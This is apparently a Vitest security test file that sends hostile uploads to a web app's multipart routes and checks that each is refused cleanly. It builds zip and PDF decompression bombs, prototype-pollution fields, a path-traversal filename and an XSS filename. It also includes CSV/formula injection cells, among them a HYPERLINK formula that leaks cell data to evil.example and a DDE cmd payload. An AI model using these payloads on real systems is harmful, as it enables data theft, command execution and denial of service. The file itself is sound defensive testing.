import { setImmediate as nextTurn } from "node:timers/promises";
import { constants, deflateRawSync } from "node:zlib";
import { strToU8, zipSync } from "fflate";
import { extractText, getDocumentProxy } from "unpdf";
import writeXlsxFile from "write-excel-file/node";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { activePolicy, reportClaim } from "@/lib/claims/__tests__/claim-fixtures";
import { MAX_UPLOAD_BYTES } from "@/lib/emission/bulk-upload/schemas";
import { allOperations } from "@/lib/http/openapi";
import type { Operation } from "@/lib/http/operation";
import { api, type ApiResponse } from "@/test/api";
import {
  createSellableVersion,
  createTestClient,
  dateFromToday,
  payTestPolicy,
  signInAs,
  type SignedIn,
} from "@/test/fixtures";
import { changes, expectNoPollution, problemsOf, snapshot, tableNames } from "./hostile-checks";

// Issue 8 point 3, uploads: every multipart route (found through the operations' `multipart`, so a new
// upload is covered without touching this file) refuses truncated, oversized, mistyped and bomb-like
// bodies with a 4xx `{detail}`, stores nothing, leaks nothing and pollutes no prototype. What one route
// already proves in depth stays in its own tests: lib/emission/__tests__/bulk-upload.test.ts (zip bombs by
// declared size, ratio and lying sizes; truncated workbooks; non-workbook zips; formula cells read as
// their cached value; __proto__ headers in .csv and .xlsx; NUL cells; 413 three ways) and
// lib/knowledge/__tests__/ingest-pdf-document.test.ts (PNG, text and truncated PDFs; PDF decompression bombs; 413).
//
// Trust.md section 6: a spreadsheet past the template's bounds is refused as soon as it is seen (a cell
// or column beyond E: 422 naming the cell; rows beyond the header and 1,000, blank ones counted: 413),
// files are read and certificates rendered off the request thread, and GET /health keeps answering
// within a second while they are.

let admin: SignedIn;
let tables: string[];
let bulkFields: Record<string, string>;
/** Path parameters of the upload routes: an open claim for /claims/{id}/documents. */
let pathParams: Record<string, string>;

beforeAll(async () => {
  admin = await signInAs("ADMIN");
  const { version } = await createSellableVersion();
  const client = await createTestClient(admin);
  bulkFields = { client_id: client.id, plan_version_id: version.id, start_date: dateFromToday(1) };
  const seller = await signInAs("VENDEDOR");
  const claim = await reportClaim(seller, await activePolicy(seller, admin, { versionId: version.id }));
  pathParams = { id: claim.id };
  tables = await tableNames();
}, 120_000);

afterAll(() => {
  expectNoPollution();
});

/** What a route's form needs besides its file, and the file extension it takes; an unlisted route gets none. */
function formOf(operation: Operation): { fields: () => Record<string, string>; extension: string } {
  const known: Record<string, { fields: () => Record<string, string>; extension: string }> = {
    "/emission/bulk-upload": { fields: () => bulkFields, extension: "xlsx" },
    // ADMIN names the company (trust.md section 5), so that the file itself is what gets refused.
    "/ai/knowledge/upload": { fields: () => ({ company_id: admin.user.company_id }), extension: "pdf" },
    // An item the claim's checklist has, so that the file itself is what gets refused.
    "/claims/{id}/documents": { fields: () => ({ requirement_code: "DEATH_CERTIFICATE" }), extension: "pdf" },
  };
  return known[operation.path] ?? { fields: () => ({}), extension: "bin" };
}

function formWith(
  operation: Operation,
  file: { bytes: Uint8Array; name?: string } | null,
  extra: Record<string, string> = {},
): FormData {
  const { fields, extension } = formOf(operation);
  const form = new FormData();
  if (file) form.append("file", new Blob([new Uint8Array(file.bytes)]), file.name ?? `upload.${extension}`);
  for (const [name, value] of Object.entries({ ...fields(), ...extra })) form.append(name, value);
  return form;
}

const PNG = Uint8Array.from([
  0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0,
  0, 0,
]);
const SMALL_TEXT = strToU8("first_name,last_name\nAna,Pérez\n");

let bomb: Uint8Array | undefined;

/** A zip of 64 MiB of zeros in about 64 KB, with the parts of a workbook, whatever the route expects (built once). */
function zipBomb(): Uint8Array {
  return (bomb ??= zipSync({
    "[Content_Types].xml": strToU8("<Types/>"),
    "xl/workbook.xml": strToU8("<workbook/>"),
    "xl/worksheets/sheet1.xml": new Uint8Array(64 * 1024 * 1024),
  }));
}

type Send = { body: FormData | Uint8Array | string; headers?: Record<string, string> };

// Each case: what is sent, and the statuses the contract allows for it (any 4xx when not given).
const CASES: Array<[string, (operation: Operation) => Promise<Send> | Send, number[]?]> = [
  [
    "a multipart body cut off halfway",
    async (operation) => {
      const encoded = new Response(formWith(operation, { bytes: SMALL_TEXT }));
      const bytes = new Uint8Array(await encoded.arrayBuffer());
      return {
        body: bytes.subarray(0, Math.floor(bytes.length / 2)),
        headers: { "content-type": encoded.headers.get("content-type")! },
      };
    },
  ],
  [
    "a multipart type without a boundary",
    () => ({ body: "--x\r\n\r\n--x--", headers: { "content-type": "multipart/form-data" } }),
    [422],
  ],
  [
    "a JSON body",
    () => ({ body: JSON.stringify({ file: "x" }), headers: { "content-type": "application/json" } }),
    [422],
  ],
  ["a form without a file", (operation) => ({ body: formWith(operation, null) }), [422]],
  ["an empty file", (operation) => ({ body: formWith(operation, { bytes: new Uint8Array(0) }) })],
  [
    "a file one byte over the limit",
    (operation) => ({ body: formWith(operation, { bytes: new Uint8Array(operation.multipart!.maxBytes + 1) }) }),
    [413],
  ],
  [
    "a declared Content-Length far over the limit",
    () => ({
      body: "--x--",
      headers: { "content-type": "multipart/form-data; boundary=x", "content-length": String(1024 * 1024 * 1024) },
    }),
    [413],
  ],
  ["PNG bytes under the route's file name", (operation) => ({ body: formWith(operation, { bytes: PNG }) })],
  ["a zip bomb under the route's file name", (operation) => ({ body: formWith(operation, { bytes: zipBomb() }) })],
  [
    "form fields named __proto__, constructor and prototype",
    (operation) => ({
      body: formWith(
        operation,
        { bytes: PNG },
        { __proto__: '{"polluted":"yes"}', constructor: '{"prototype":{"polluted":"yes"}}', prototype: "polluted" },
      ),
    }),
  ],
  [
    "a file name that climbs out of its folder",
    (operation) => ({
      body: formWith(operation, { bytes: PNG, name: `../../../etc/passwd.${formOf(operation).extension}` }),
    }),
  ],
  [
    "a file name with HTML, NUL and 2,000 emoji",
    (operation) => ({
      body: formWith(operation, {
        bytes: PNG,
        name: `<script>alert(1)</script>\u0000${"😀".repeat(2000)}.${formOf(operation).extension}`,
      }),
    }),
  ],
];

const uploads = allOperations.filter((operation) => operation.multipart);

async function send(operation: Operation, request: Send): Promise<ApiResponse> {
  const path = operation.path.replace(/\{(\w+)\}/g, (_, name: string) => pathParams[name] ?? crypto.randomUUID());
  return api(operation.method, `/api/v1${path}`, {
    token: admin.token,
    rawBody: request.body,
    headers: request.headers,
  });
}

/** Sends and checks one request: a 4xx the contract allows, nothing stored, nothing leaked or polluted. */
async function expectRefusedCleanly(operation: Operation, request: Send, allowed?: number[]): Promise<ApiResponse> {
  const before = await snapshot(tables);
  const response = await send(operation, request);
  expect(problemsOf(response, allowed)).toEqual([]);
  expect(response.status, response.text.slice(0, 300)).toBeGreaterThanOrEqual(400);
  expect(response.status).toBeLessThan(500);
  expect(changes(before, await snapshot(tables), [])).toEqual([]);
  expectNoPollution();
  return response;
}

describe("hostile uploads", () => {
  it("finds the upload routes through the operations", () => {
    expect(uploads.map((operation) => operation.path).sort()).toEqual(
      expect.arrayContaining(["/ai/knowledge/upload", "/claims/{id}/documents", "/emission/bulk-upload"]),
    );
  });

  it("reaches the file on POST /claims/{id}/documents: its claim is real and open, so the file is what is refused", async () => {
    const documents = uploads.find((operation) => operation.path === "/claims/{id}/documents")!;
    const response = await expectRefusedCleanly(documents, { body: formWith(documents, { bytes: PNG }) }, [422]);
    expect(response.body.errors?.[0]?.code, response.text).toBe("unsupported_file_type");
  });

  describe.each(uploads.map((operation) => [`${operation.method} ${operation.path}`, operation] as const))(
    "%s",
    (_, operation) => {
      it.each(CASES)("refuses %s cleanly", async (_, build, allowed) => {
        await expectRefusedCleanly(operation, await build(operation), allowed);
      });

      it("keeps memory in bounds on a zip bomb", async () => {
        const rssBefore = process.memoryUsage.rss();
        await expectRefusedCleanly(operation, { body: formWith(operation, { bytes: zipBomb() }) });
        expect(process.memoryUsage.rss() - rssBefore).toBeLessThan(256 * 1024 * 1024);
      });
    },
  );
});

describe("spreadsheets with formulas or polluting headers (bulk upload)", () => {
  const bulk = () => uploads.find((operation) => operation.path === "/emission/bulk-upload")!;
  const COLUMNS = ["first_name", "last_name", "date_of_birth", "kinship_type", "country_of_residence"];

  async function xlsx(rows: string[][]): Promise<Uint8Array> {
    return new Uint8Array(await writeXlsxFile(rows).toBuffer());
  }

  it("refuses text cells that are formulas (=HYPERLINK, =cmd|, @SUM, +, -) in .xlsx and .csv, naming each cell", async () => {
    const formulas = [
      `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
      "=cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "+1+1",
      "-2+3",
    ];
    const rows = formulas.map((formula) => [formula, "Pérez", "1985-03-01", "CHILD", ""]);
    const fromXlsx = await expectRefusedCleanly(
      bulk(),
      { body: formWith(bulk(), { bytes: await xlsx([COLUMNS, ...rows]) }) },
      [422],
    );
    expect(
      fromXlsx.body.errors.map((error: { row: number; column: string }) => `${error.row}:${error.column}`),
    ).toEqual(["2:first_name", "3:first_name", "4:first_name", "5:first_name", "6:first_name"]);

    const csv = `${COLUMNS.join(",")}\n${rows.map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(",")).join("\n")}\n`;
    const fromCsv = await expectRefusedCleanly(
      bulk(),
      { body: formWith(bulk(), { bytes: strToU8(csv), name: "beneficiaries.csv" }) },
      [422],
    );
    expect(fromCsv.body.errors).toHaveLength(formulas.length);
  });

  /** A workbook written by hand with inline text cells (write-excel-file cannot write a __proto__ cell). */
  function handMadeXlsx(rows: string[][]): Uint8Array {
    const main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
    const escape = (text: string) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");
    const cell = (text: string, column: number, row: number) =>
      `<c r="${String.fromCharCode(65 + column)}${row}" t="inlineStr"><is><t>${escape(text)}</t></is></c>`;
    const sheetRows = rows
      .map(
        (cells, index) =>
          `<row r="${index + 1}">${cells.map((text, column) => cell(text, column, index + 1)).join("")}</row>`,
      )
      .join("");
    return zipSync({
      "xl/workbook.xml": strToU8(
        `<workbook ${main} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`,
      ),
      "xl/_rels/workbook.xml.rels": strToU8(
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
      ),
      "xl/worksheets/sheet1.xml": strToU8(`<worksheet ${main}><sheetData>${sheetRows}</sheetData></worksheet>`),
    });
  }

  it("refuses __proto__, constructor and prototype headers as unknown columns and pollutes nothing", async () => {
    // Within the template's five columns (a sixth is refused as outside the template, below).
    const header = ["__proto__", "constructor", "prototype", "first_name", "last_name"];
    const row = ['{"polluted":"yes"}', "polluted", "polluted", "Ana", "Pérez"];
    const response = await expectRefusedCleanly(
      bulk(),
      { body: formWith(bulk(), { bytes: handMadeXlsx([header, row]) }) },
      [422],
    );
    expect(
      response.body.errors?.map((error: { column: string }) => error.column),
      response.text,
    ).toEqual(["__proto__", "constructor", "prototype", "date_of_birth", "kinship_type"]);
  });
});

// The outside review's reproductions, each of which stopped the server on the code before trust.md: the
// reader allocated up to a cell's column (ZZZZZZ2: "Fatal JavaScript invalid size error") or row, and
// csv-parse spent 37 s on 1 MB of newlines (216 s and 3.2 GB on 5 MB) on the request thread.
const QUICK_MS = 3000;
const COLUMNS = ["first_name", "last_name", "date_of_birth", "kinship_type", "country_of_residence"];
const CSV_HEADER = COLUMNS.join(",");

/** A workbook whose first sheet's <sheetData> is `rows` under the template's header, written by hand. */
function workbookWithRows(rows: string): Uint8Array {
  const main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
  const header = `<row r="1">${COLUMNS.map((column, index) => textCell(`${"ABCDE"[index]}1`, column)).join("")}</row>`;
  return zipSync({
    "xl/workbook.xml": strToU8(
      `<workbook ${main} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    ),
    "xl/_rels/workbook.xml.rels": strToU8(
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    ),
    "xl/worksheets/sheet1.xml": strToU8(`<worksheet ${main}><sheetData>${header}${rows}</sheetData></worksheet>`),
  });
}

function textCell(reference: string, text: string): string {
  return `<c r="${reference}" t="inlineStr"><is><t>${text}</t></is></c>`;
}

/** A person's cells in row `row`, with the country in column E. */
function personRow(row: number, rowAttribute = `r="${row}"`): string {
  const cells = ["Ana", "Pérez", "1985-03-01", "SELF", "MX"].map((text, index) =>
    textCell(`${"ABCDE"[index]}${row}`, text),
  );
  return `<row ${rowAttribute}>${cells.join("")}</row>`;
}

const bulkUpload = () => uploads.find((operation) => operation.path === "/emission/bulk-upload")!;
const xlsxFile = (bytes: Uint8Array) => ({ bytes, name: "beneficiaries.xlsx" });
const csvFile = (text: string) => ({ bytes: strToU8(text), name: "beneficiaries.csv" });

/** 5 MB of newlines under the header: the largest file of them the form takes. */
const fiveMegabytesOfNewlines = () => `${CSV_HEADER}\n${"\n".repeat(MAX_UPLOAD_BYTES - CSV_HEADER.length - 1)}`;

const BEYOND_BOUNDS: Array<[string, () => { bytes: Uint8Array; name: string }, 413 | 422, string | RegExp]> = [
  [
    "an .xlsx cell right of column E (F2)",
    () => xlsxFile(workbookWithRows(`<row r="2">${textCell("A2", "Ana")}${textCell("F2", "a note")}</row>`)),
    422,
    /^cell F2 is outside the template: /,
  ],
  [
    "the .xlsx cell ZZZZZZ2",
    () => xlsxFile(workbookWithRows(`<row r="2">${textCell("ZZZZZZ2", "x")}</row>`)),
    422,
    /^cell ZZZZZZ2 is outside the template: /,
  ],
  [
    'an .xlsx <row r="1002">',
    () => xlsxFile(workbookWithRows(personRow(1002))),
    413,
    "the file has more rows than an upload takes: the file reaches row 1002, past the header and the 1,000 rows under it (blank rows count)",
  ],
  [
    'an .xlsx <row r="5000000">',
    () => xlsxFile(workbookWithRows('<row r="5000000"/>')),
    413,
    /: the file reaches row 5000000, /,
  ],
  [
    "an .xlsx cell A1002 in an unnumbered row",
    () => xlsxFile(workbookWithRows(personRow(1002, ""))),
    413,
    /: cell A1002 is in row 1002, /,
  ],
  [
    "a .csv cell right of column E (F2)",
    () => csvFile(`${CSV_HEADER}\nAna,Pérez,1985-03-01,SELF,MX,a note\n`),
    422,
    /^cell F2 is outside the template: /,
  ],
  [
    "a .csv of 5 MB of separators",
    () => csvFile(",".repeat(MAX_UPLOAD_BYTES)),
    422,
    /^cell F1 is outside the template: /,
  ],
  [
    "a .csv with 1,001 blank lines under the header",
    () => csvFile(`${CSV_HEADER}\n${"\n".repeat(1001)}x`),
    413,
    /: the file reaches row 1002, /,
  ],
  [
    "a .csv of 1 MB of newlines",
    () => csvFile(`${CSV_HEADER}\n${"\n".repeat(1024 * 1024)}`),
    413,
    /: the file reaches row 1002, /,
  ],
  ["a .csv of 5 MB of newlines", () => csvFile(fiveMegabytesOfNewlines()), 413, /: the file reaches row 1002, /],
];

describe("spreadsheets beyond the template's bounds (bulk upload)", () => {
  it.each(BEYOND_BOUNDS)("refuses %s quickly, naming it, and stores nothing", async (_, file, status, detail) => {
    const started = performance.now();
    const response = await expectRefusedCleanly(bulkUpload(), { body: formWith(bulkUpload(), file()) }, [status]);
    expect(response.body.detail).toMatch(detail);
    expect(performance.now() - started).toBeLessThan(QUICK_MS);
  });

  it("reads a file that reaches the bounds: cell E1001 of an .xlsx, and 1,000 rows under a .csv's header, blank ones included", async () => {
    const xlsx = await send(bulkUpload(), {
      body: formWith(bulkUpload(), xlsxFile(workbookWithRows(personRow(1001)))),
    });
    expect(xlsx.status, xlsx.text.slice(0, 300)).toBe(201);
    expect(xlsx.body.beneficiaries).toHaveLength(1);

    // A quoted line break is part of its cell, and a line break at the very end starts no row.
    const csv = await send(bulkUpload(), {
      body: formWith(
        bulkUpload(),
        csvFile(`${CSV_HEADER}\n"Ana\nMaría","Pérez, López",1985-03-01,SELF,MX\n${"\n".repeat(999)}`),
      ),
    });
    expect(csv.status, csv.text.slice(0, 300)).toBe(201);
    expect(
      csv.body.beneficiaries.map((person: { first_name: string; last_name: string }) => [
        person.first_name,
        person.last_name,
      ]),
    ).toEqual([["Ana\nMaría", "Pérez, López"]]);
  });
});

/**
 * Calls GET /health one request after another from the moment `start` has sent its request (not awaited)
 * until that request has its answer; returns the answer and how long each health request took.
 */
async function healthWhile(start: () => Promise<ApiResponse>): Promise<{ response: ApiResponse; healthMs: number[] }> {
  const inFlight = start();
  let answered = false;
  const settled = inFlight.finally(() => (answered = true));
  const healthMs: number[] = [];
  do {
    // Each request arrives as its own event, as it does from a socket: a loop of calls that never left
    // the microtask queue would starve the thread's messages from the workers.
    await nextTurn();
    const began = performance.now();
    const health = await api("GET", "/api/v1/health");
    healthMs.push(performance.now() - began);
    expect(health.status).toBe(200);
  } while (!answered);
  return { response: await settled, healthMs };
}

/** A one-page PDF whose content stream inflates to 512 MiB of blanks (about 520 KB): the extraction's limit reads 128 MB of it. */
function pdfBomb(): Uint8Array {
  const blankMebibyte = deflateRawSync(Buffer.alloc(1024 * 1024, 0x20), { finishFlush: constants.Z_SYNC_FLUSH });
  const packed = Buffer.concat([
    Buffer.from([0x78, 0x9c]),
    ...Array.from({ length: 512 }, () => blankMebibyte),
    Buffer.from([0x03, 0x00]),
  ]);
  return Buffer.concat([
    Buffer.from(
      "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
    ),
    Buffer.from("3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>\nendobj\n"),
    Buffer.from(`4 0 obj\n<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n`),
    packed,
    Buffer.from("\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"),
  ]);
}

describe("the request thread keeps answering while uploads are read and certificates rendered", () => {
  it.each(BEYOND_BOUNDS)("answers GET /health within a second while it refuses %s", async (_, file, status) => {
    const { response, healthMs } = await healthWhile(() =>
      send(bulkUpload(), { body: formWith(bulkUpload(), file()) }),
    );
    expect(response.status, response.text.slice(0, 300)).toBe(status);
    expect(Math.max(...healthMs)).toBeLessThan(1000);
  });

  it("answers GET /health within a second while it reads a PDF decompression bomb", async () => {
    const knowledge = uploads.find((operation) => operation.path === "/ai/knowledge/upload")!;
    const { response, healthMs } = await healthWhile(() =>
      send(knowledge, { body: formWith(knowledge, { bytes: pdfBomb(), name: "bomb.pdf" }) }),
    );
    expect(response.status, response.text.slice(0, 300)).toBe(400);
    expect(response.body.detail).toBe("the PDF is refused: its streams unpack to more than 128 MB");
    expect(Math.max(...healthMs)).toBeLessThan(1000);
  });

  it("answers GET /health within a second while it renders the certificate of a 1,000-life policy", async () => {
    const seller = await signInAs("VENDEDOR");
    const people = Array.from({ length: 1000 }, (_, index) => ({
      first_name: `Person ${index + 1}`,
      last_name: `Family ${index % 50}`,
      kinship_type: index === 0 ? "SELF" : "CHILD",
      date_of_birth: index === 0 ? "1985-03-01" : "2010-06-30",
    }));
    const issued = await api("POST", "/api/v1/emission/issue", {
      token: seller.token,
      body: {
        client_id: (await createTestClient(seller, { preferred_language: "en" })).id,
        plan_version_id: bulkFields.plan_version_id,
        start_date: bulkFields.start_date,
        beneficiaries: people,
      },
    });
    expect(issued.status, issued.text.slice(0, 300)).toBe(201);
    expect((await payTestPolicy(admin, issued.body.id)).status).toBe("ACTIVE");

    // The activation has started the render in the background; the download waits for it.
    const { GET } = await import("@/app/api/v1/emission/policies/[id]/pdf/route");
    let pdf = new Uint8Array();
    const { response, healthMs } = await healthWhile(async () => {
      const answer = await GET(
        new Request(`http://localhost:3000/api/v1/emission/policies/${issued.body.id}/pdf`, {
          headers: { authorization: `Bearer ${admin.token}` },
        }),
        {
          params: Promise.resolve({ id: issued.body.id }),
        },
      );
      pdf = new Uint8Array(await answer.arrayBuffer());
      return { status: answer.status, body: null, headers: answer.headers, text: "" };
    });
    expect(response.status).toBe(200);
    expect(Math.max(...healthMs)).toBeLessThan(1000);

    const { text, totalPages } = await extractText(await getDocumentProxy(pdf), { mergePages: true });
    expect(text).toContain("Person 1000 Family 49");
    expect(text).toContain(`Page ${totalPages} of ${totalPages}`);
  }, 180_000);
});
